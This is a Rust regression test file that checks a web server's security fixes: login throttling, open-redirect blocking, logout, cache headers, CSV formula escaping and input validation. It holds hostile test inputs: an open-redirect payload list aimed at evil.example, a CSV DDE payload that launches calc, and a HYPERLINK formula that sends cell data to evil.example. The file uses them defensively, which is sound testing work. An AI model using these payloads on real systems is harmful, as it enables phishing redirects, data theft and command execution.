//! Regression tests of the security review of issue 15, each named after what broke: the login throttle under
//! parallel guesses and behind a proxy, open redirects, logout, caching of authenticated answers, CSV formula
//! injection, unstructured error answers, and unchecked free-text fields.

use jiff::SignedDuration;
use reqwest::{Method, StatusCode};
use serde_json::json;
use tanji_server::ServerConfig;
use tanji_testkit::{TestDatabase, on_both_databases};

use crate::harness::{BRAND_EDITOR, BRAND_OWNER, Browser, PASSWORD, Page, TestApp, World};

/// Posts the login form `n` times at once from clones of `browser` (one cookie jar, one CSRF token).
async fn parallel_logins(
    browser: &Browser,
    password: &str,
    n: usize,
    extra_headers: Vec<(String, String)>,
) -> Vec<Page> {
    let token = browser.get("/login").await.csrf_token().expect("the login form's token");
    let mut tasks = tokio::task::JoinSet::new();
    for _ in 0..n {
        let (browser, token, password, headers) =
            (browser.clone(), token.clone(), password.to_owned(), extra_headers.clone());
        tasks.spawn(async move {
            let headers: Vec<(&str, &str)> =
                headers.iter().map(|(name, value)| (name.as_str(), value.as_str())).collect();
            let fields = [("email", BRAND_EDITOR), ("password", password.as_str()), ("csrf_token", token.as_str())];
            browser.post_raw("/login", &fields, &headers).await
        });
    }
    tasks.join_all().await
}

fn count(pages: &[Page], status: StatusCode) -> usize {
    pages.iter().filter(|page| page.status == status).count()
}

on_both_databases!(parallel_wrong_passwords_get_at_most_the_free_verdicts);
async fn parallel_wrong_passwords_get_at_most_the_free_verdicts(database: TestDatabase) {
    let app = TestApp::spawn(database).await;
    World::build(app.store()).await;
    let pages = parallel_logins(&app.browser(), "wrong password", 24, Vec::new()).await;
    // Before the fix every one of them reached the Argon2 check (24 × 401): the count was read before any failure
    // was recorded.
    assert_eq!(count(&pages, StatusCode::UNAUTHORIZED), 5, "only the free attempts get a password verdict");
    assert_eq!(count(&pages, StatusCode::TOO_MANY_REQUESTS), 19);
    for refused in pages.iter().filter(|page| page.status == StatusCode::TOO_MANY_REQUESTS) {
        assert!(refused.headers.contains_key("retry-after"));
    }
}

on_both_databases!(the_throttle_backs_off_instead_of_locking_the_account);
async fn the_throttle_backs_off_instead_of_locking_the_account(database: TestDatabase) {
    let clock = database.clock.clone();
    let app = TestApp::spawn(database).await;
    World::build(app.store()).await;
    let attacker = app.browser();
    for _ in 0..5 {
        let page = attacker.submit("/login", "/login", &[("email", BRAND_EDITOR), ("password", "guess")]).await;
        assert_eq!(page.status, StatusCode::UNAUTHORIZED);
    }
    let refused = attacker.submit("/login", "/login", &[("email", BRAND_EDITOR), ("password", "guess")]).await;
    assert_eq!(refused.status, StatusCode::TOO_MANY_REQUESTS);
    assert_eq!(refused.headers["retry-after"], "1", "one second after the fifth failure, not fifteen minutes");
    clock.advance(SignedDuration::from_secs(1));
    let sixth = attacker.submit("/login", "/login", &[("email", BRAND_EDITOR), ("password", "guess")]).await;
    assert_eq!(sixth.status, StatusCode::UNAUTHORIZED);
    let refused = attacker.submit("/login", "/login", &[("email", BRAND_EDITOR), ("password", "guess")]).await;
    assert_eq!(refused.headers["retry-after"], "2", "then twice as long");
}

on_both_databases!(forwarded_for_is_believed_only_from_a_trusted_proxy);
async fn forwarded_for_is_believed_only_from_a_trusted_proxy(database: TestDatabase) {
    // Without --trusted-proxy a client cannot escape the throttle by naming another address.
    let app = TestApp::spawn(database).await;
    World::build(app.store()).await;
    let browser = app.browser();
    let spoofed = parallel_logins(&browser, "wrong", 5, vec![("x-forwarded-for".into(), "198.51.100.1".into())]).await;
    assert_eq!(count(&spoofed, StatusCode::UNAUTHORIZED), 5);
    let other = parallel_logins(&browser, "wrong", 1, vec![("x-forwarded-for".into(), "198.51.100.2".into())]).await;
    assert_eq!(count(&other, StatusCode::TOO_MANY_REQUESTS), 1, "the header is ignored: same peer, same key");
}

on_both_databases!(behind_a_trusted_proxy_each_client_has_its_own_throttle);
async fn behind_a_trusted_proxy_each_client_has_its_own_throttle(database: TestDatabase) {
    let config = ServerConfig { trusted_proxies: vec!["127.0.0.1/32".parse().unwrap()], ..ServerConfig::default() };
    let app = TestApp::spawn_with(database, config, None).await;
    World::build(app.store()).await;
    let browser = app.browser();
    let attacker = vec![("x-forwarded-for".to_owned(), "203.0.113.66".to_owned())];
    let guesses = parallel_logins(&browser, "wrong", 8, attacker).await;
    assert_eq!(count(&guesses, StatusCode::UNAUTHORIZED), 5);
    // The owner of the account, behind the same proxy, still logs in: before, everyone behind a proxy shared one
    // address and five wrong passwords locked the account for all of them.
    let owner = vec![("x-forwarded-for".to_owned(), "198.51.100.7".to_owned())];
    let login = parallel_logins(&app.browser(), PASSWORD, 1, owner).await;
    assert_eq!(login[0].status, StatusCode::SEE_OTHER, "{}", login[0].body);
}

on_both_databases!(the_password_change_form_is_throttled_like_the_login);
async fn the_password_change_form_is_throttled_like_the_login(database: TestDatabase) {
    let app = TestApp::spawn(database).await;
    World::build(app.store()).await;
    let browser = app.browser();
    browser.log_in(BRAND_EDITOR).await;
    let mut statuses = Vec::new();
    for _ in 0..8 {
        let fields = [("current_password", "guess"), ("new_password", "a much longer new password")];
        statuses.push(browser.submit("/console/account", "/console/account/password", &fields).await.status);
    }
    // Before the fix: eight 422s, an unlimited dictionary attack from an unlocked screen.
    assert_eq!(statuses.iter().filter(|status| **status == StatusCode::UNPROCESSABLE_ENTITY).count(), 5);
    assert_eq!(statuses.iter().filter(|status| **status == StatusCode::TOO_MANY_REQUESTS).count(), 3);
    let refused = browser
        .submit(
            "/console/account",
            "/console/account/password",
            &[("current_password", PASSWORD), ("new_password", "a much longer new password")],
        )
        .await;
    assert_eq!(refused.status, StatusCode::TOO_MANY_REQUESTS);
    assert!(refused.body.contains("Too many failed attempts"), "said on the form");
}

/// Open-redirect payloads as they appear in a URL (before decoding).
const REDIRECT_PAYLOADS: &[&str] = &[
    "//evil.example/",
    "/%2F/evil.example/",
    "/%2F%2Fevil.example",
    "/%5Cevil.example",
    "%2F%5Cevil.example",
    "/%09/evil.example/",
    "/%0d%0aSet-Cookie:%20x=1",
    "/%0aLocation:%20https://evil.example",
    "javascript:alert(1)",
    "/.%2e/evil.example",
    "https://evil.example/",
    "https:%2F%2Fevil.example",
    "//xn--80ak6aa92e.com/",
    "//%D0%B0%D1%80%D1%80%D3%8F%D0%B5.com/",
    "/%E3%80%80/evil.example",
];

on_both_databases!(next_never_leaves_the_site);
async fn next_never_leaves_the_site(database: TestDatabase) {
    let app = TestApp::spawn(database).await;
    World::build(app.store()).await;
    let browser = app.browser();
    browser.log_in(BRAND_EDITOR).await;
    for payload in REDIRECT_PAYLOADS {
        // Already logged in, /login sends people on at once.
        let page = browser.get(&format!("/login?next={payload}")).await;
        assert_eq!((page.status, page.location()), (StatusCode::SEE_OTHER, "/console"), "GET next={payload}");
    }
    for payload in REDIRECT_PAYLOADS {
        let decoded = percent_decode(payload);
        let page = app.browser().submit("/login", "/lang", &[("lang", "zh-CN"), ("next", &decoded)]).await;
        assert_eq!((page.status, page.location()), (StatusCode::SEE_OTHER, "/console"), "language next={payload}");
        let fresh = app.browser();
        let page = fresh
            .submit("/login", "/login", &[("email", BRAND_OWNER), ("password", PASSWORD), ("next", &decoded)])
            .await;
        assert_eq!((page.status, page.location()), (StatusCode::SEE_OTHER, "/console"), "POST next={payload}");
        let page = fresh.submit("/console", "/lang", &[("lang", "en"), ("next", &decoded)]).await;
        assert_eq!((page.status, page.location()), (StatusCode::SEE_OTHER, "/console"), "language next={payload}");
    }
    // A page asked for before logging in is where login sends the person, search words with spaces included.
    let visitor = app.browser();
    let asked = visitor.get("/console/factors?q=natural%20gas").await;
    assert_eq!(asked.status, StatusCode::SEE_OTHER);
    let login_path = asked.location().to_owned();
    let next = login_path.split_once("next=").map(|(_, next)| percent_decode(next)).unwrap();
    let page =
        visitor.submit(&login_path, "/login", &[("email", BRAND_OWNER), ("password", PASSWORD), ("next", &next)]).await;
    assert_eq!(page.location(), "/console/factors?q=natural%20gas");
    // Local paths still work, Chinese ones included.
    let page = browser.get("/login?next=/console/factors%3Fq%3D%E7%94%B5%E7%BD%91").await;
    assert_eq!(page.location(), "/console/factors?q=%E7%94%B5%E7%BD%91");
}

fn percent_decode(text: &str) -> String {
    percent_encoding::percent_decode_str(text).decode_utf8_lossy().into_owned()
}

on_both_databases!(logout_expires_the_cookie_and_ends_the_session);
async fn logout_expires_the_cookie_and_ends_the_session(database: TestDatabase) {
    let app = TestApp::spawn(database).await;
    World::build(app.store()).await;
    let browser = app.browser();
    let login = browser.submit("/login", "/login", &[("email", BRAND_EDITOR), ("password", PASSWORD)]).await;
    let session_cookie = login.set_cookies().into_iter().find(|cookie| cookie.starts_with("tanji_session=")).unwrap();
    let session_value = session_cookie.split(';').next().unwrap().to_owned();
    let logout = browser.submit("/console", "/logout", &[]).await;
    assert_eq!(logout.status, StatusCode::SEE_OTHER);
    // Before the fix there was no Set-Cookie at all, so the browser kept sending the old cookie.
    let expired = logout.set_cookies().into_iter().find(|cookie| cookie.starts_with("tanji_session=")).unwrap();
    assert!(expired.contains("Max-Age=0") && expired.starts_with("tanji_session=;"), "{expired}");
    assert!(expired.contains("HttpOnly") && expired.contains("Path=/"), "{expired}");
    // The server ended the session too: replaying the old cookie opens nothing.
    let replay = reqwest::Client::builder().redirect(reqwest::redirect::Policy::none()).build().unwrap();
    let answer = replay.get(format!("{}/console", app.base_url)).header("cookie", session_value).send().await.unwrap();
    assert_eq!(answer.status(), StatusCode::SEE_OTHER);
    assert!(answer.headers()["location"].to_str().unwrap().starts_with("/login"));
}

on_both_databases!(authenticated_answers_are_never_cached);
async fn authenticated_answers_are_never_cached(database: TestDatabase) {
    let app = TestApp::spawn(database).await;
    let world = World::build(app.store()).await;
    let browser = app.browser();
    browser.log_in(BRAND_OWNER).await;
    for path in
        ["/console", "/console/members", "/console/account", "/console/audit", "/console/nothing-here", "/login"]
    {
        let page = browser.get(path).await;
        assert_eq!(page.headers.get("cache-control").map(|value| value.to_str().unwrap()), Some("no-store"), "{path}");
    }
    let api = app.api(&World::token(app.store(), &world.brand, BRAND_OWNER, "read").await);
    for path in ["/api/v1/organisation", "/api/v1/facilities", "/api/v1/nothing-here"] {
        let answer = api.get(path).await;
        assert_eq!(
            answer.headers.get("cache-control").map(|value| value.to_str().unwrap()),
            Some("no-store"),
            "{path}"
        );
    }
}

on_both_databases!(csv_exports_neutralise_formulas_but_not_numbers);
async fn csv_exports_neutralise_formulas_but_not_numbers(database: TestDatabase) {
    let app = TestApp::spawn(database).await;
    let world = World::build(app.store()).await;
    let editor = app.api(&World::token(app.store(), &world.brand, BRAND_EDITOR, "read,write").await);
    let facility = editor
        .post(
            "/api/v1/facilities",
            json!({ "name": "=HYPERLINK(\"https://evil.example?\"&A1,\"x\")", "code": "F1", "kind": "factory" }),
        )
        .await;
    assert_eq!(facility.status, StatusCode::CREATED, "{}", facility.json);
    let rows = json!([{ "id": "@SUM(1+9)*cmd|' /C calc'!A0", "facility": "F1", "period": "2025",
                        "source": "purchased_electricity", "quantity": "1000", "unit": "MWh",
                        "factor": "mee-nbs-2022-grid-cn-grid-east" }]);
    assert_eq!(editor.post("/api/v1/activities", rows).await.status, StatusCode::CREATED);
    let computed = editor
        .post(
            "/api/v1/inventories",
            json!({ "reporting_year": 2025, "gwp": "AR6", "consolidation": "operational_control" }),
        )
        .await;
    assert_eq!(computed.status, StatusCode::CREATED, "{}", computed.json);
    let id = computed.json["id"].as_str().unwrap();
    let browser = app.browser();
    browser.log_in(BRAND_EDITOR).await;
    let exported = browser.get(&format!("/console/inventory/{id}/export.csv")).await;
    assert_eq!(exported.status, StatusCode::OK);
    assert_eq!(exported.headers["cache-control"], "no-store");
    let text = exported.body.strip_prefix('\u{feff}').unwrap();
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let header: Vec<String> = reader.headers().unwrap().iter().map(str::to_owned).collect();
    let column = |name: &str| header.iter().position(|header_name| header_name == name).unwrap();
    let record = reader.records().next().unwrap().unwrap();
    // Before the fix these cells started with `@` and `=` and ran as formulas in Excel and WPS.
    assert_eq!(&record[column("record_id")], "'@SUM(1+9)*cmd|' /C calc'!A0");
    assert_eq!(&record[column("facility")], "'=HYPERLINK(\"https://evil.example?\"&A1,\"x\")");
    // 1000 MWh × 561.7 kg CO2/MWh: a number column, written as a number.
    assert_eq!(record[column("line_co2e_kg")].parse::<f64>().unwrap(), 561_700.0);
}

/// A POST announcing a 3 MiB body with `Expect: 100-continue`, over a raw connection: the server refuses it from the
/// `Content-Length` alone, before asking for the body, so the answer cannot be lost to a reset (as it can when a
/// client is still sending a body the server will not read). Answers the raw response text.
async fn oversized_request(app: &TestApp, path: &str, headers: &[(&str, &str)]) -> String {
    use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
    let address = app.base_url.trim_start_matches("http://");
    let mut stream = tokio::net::TcpStream::connect(address).await.unwrap();
    let mut request = format!(
        "POST {path} HTTP/1.1\r\nhost: {address}\r\ncontent-type: application/json\r\n\
         content-length: {}\r\nexpect: 100-continue\r\nconnection: close\r\n",
        3 * 1024 * 1024
    );
    for (name, value) in headers {
        request.push_str(&format!("{name}: {value}\r\n"));
    }
    request.push_str("\r\n");
    stream.write_all(request.as_bytes()).await.unwrap();
    let mut answer = Vec::new();
    stream.read_to_end(&mut answer).await.unwrap();
    String::from_utf8_lossy(&answer).into_owned()
}

on_both_databases!(every_api_error_is_json_and_every_console_error_is_a_page);
async fn every_api_error_is_json_and_every_console_error_is_a_page(database: TestDatabase) {
    let app = TestApp::spawn(database).await;
    let world = World::build(app.store()).await;
    let token = World::token(app.store(), &world.brand, BRAND_OWNER, "read,write").await;
    let api = app.api(&token);

    // A query string that does not deserialise (was plain text).
    let answer = api.get("/api/v1/audit-events?limit=many").await;
    assert_eq!((answer.status, answer.code()), (StatusCode::BAD_REQUEST, "bad_request"), "{}", answer.json);
    assert!(answer.json["message"].as_str().unwrap().contains("limit"), "{}", answer.json);
    // A body over the limit (was plain text from the body-limit layer).
    let answer = oversized_request(&app, "/api/v1/activities", &[("authorization", &format!("Bearer {token}"))]).await;
    assert!(answer.starts_with("HTTP/1.1 413"), "{answer}");
    assert!(answer.contains("\"code\":\"payload_too_large\""), "{answer}");
    let client = reqwest::Client::new();
    // A method the path does not take.
    let answer = api.call(Method::PUT, "/api/v1/audit-events", None).await;
    assert_eq!((answer.status, answer.code()), (StatusCode::METHOD_NOT_ALLOWED, "method_not_allowed"));
    assert!(answer.headers.contains_key("allow"));
    // The wrong content type.
    let answer = client
        .post(format!("{}/api/v1/facilities", app.base_url))
        .bearer_auth(&token)
        .header("content-type", "text/plain")
        .body("name=x")
        .send()
        .await
        .unwrap();
    assert!(answer.headers()["content-type"].to_str().unwrap().starts_with("application/json"));

    // The console answers with its error page, in the person's language.
    let browser = Browser::new(&app.base_url, "zh-CN");
    browser.log_in(BRAND_OWNER).await;
    let page = browser.get("/console/products/x/model.toml?version=abc").await;
    assert_eq!(page.status, StatusCode::BAD_REQUEST);
    assert!(page.headers["content-type"].to_str().unwrap().starts_with("text/html"));
    assert!(page.body.contains("无法读取此请求"), "{}", page.body);
    let answer = oversized_request(&app, "/console/facilities", &[("accept-language", "zh-CN")]).await;
    assert!(answer.starts_with("HTTP/1.1 413"), "{answer}");
    assert!(answer.contains("text/html") && answer.contains("提交的内容太大"), "{answer}");
    let token = browser.get("/console/facilities").await.csrf_token().unwrap();
    let page = browser.send_raw(Method::PUT, "/console/facilities", "text/plain", Vec::new()).await;
    assert_eq!(page.status, StatusCode::FORBIDDEN, "state-changing methods need the CSRF token first");
    let page = browser
        .send_raw(Method::POST, "/console/facilities", "text/plain", format!("csrf_token={token}").into_bytes())
        .await;
    assert!(page.headers["content-type"].to_str().unwrap().starts_with("text/html"), "{page:?}");
}

on_both_databases!(skus_and_names_are_checked_where_they_are_typed);
async fn skus_and_names_are_checked_where_they_are_typed(database: TestDatabase) {
    let app = TestApp::spawn(database).await;
    let world = World::build(app.store()).await;
    let api = app.api(&World::token(app.store(), &world.brand, BRAND_EDITOR, "read,write").await);
    let long = "x".repeat(100_000);
    for (sku, name, field) in [
        ("CUP\u{0}1", "Cup", "sku"),
        ("CUP\r\n1", "Cup", "sku"),
        (long.as_str(), "Cup", "sku"),
        ("=1+1", "Cup", "sku"),
        ("CUP-1", long.as_str(), "name_en"),
        ("CUP-1", "Cup\u{7}", "name_en"),
    ] {
        let answer = api.post("/api/v1/products", json!({ "sku": sku, "name_en": name })).await;
        assert_eq!(answer.status, StatusCode::UNPROCESSABLE_ENTITY, "{sku:?}/{name:?}: {}", answer.json);
        assert_eq!(answer.json["field"], field);
    }
    assert_eq!(api.get("/api/v1/products").await.json, json!([]), "nothing was created");
    // A Chinese SKU is fine.
    let created = api.post("/api/v1/products", json!({ "sku": "竹纤维杯-01", "name_zh": "竹纤维纸杯" })).await;
    assert_eq!(created.status, StatusCode::CREATED, "{}", created.json);
    // The console form says the rule.
    let browser = app.browser();
    browser.log_in(BRAND_EDITOR).await;
    let form = browser.get("/console/products").await;
    assert!(form.body.contains("maxlength=\"64\""), "the SKU field is limited as the rule says");
    let refused = browser.submit("/console/products", "/console/products", &[("sku", "a\"b"), ("name_en", "x")]).await;
    assert_eq!(refused.status, StatusCode::UNPROCESSABLE_ENTITY);
}
